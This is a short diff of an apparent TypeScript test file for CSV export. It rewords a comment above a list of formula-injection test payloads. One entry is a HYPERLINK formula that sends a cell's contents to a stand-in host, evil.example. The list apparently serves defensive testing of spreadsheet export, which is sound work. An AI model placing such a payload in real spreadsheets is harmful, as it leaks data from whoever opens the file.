@@ -8,7 +8,7 @@ const spanish = csvFormatOf('es-ES');
 const bare = (text: string) => text.replace(/^\uFEFF/, '');
 const oneCell = (cell: Cell) => readCsv(bare(toCsv([[cell]], english)), ',')[0]?.[0];
 
-/** What spreadsheets, and what looks for holes in them, begin a formula with. */
+/** Formula prefixes of spreadsheets and of vulnerability scanners. */
 const PAYLOADS = [
   '=1+1',
   '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
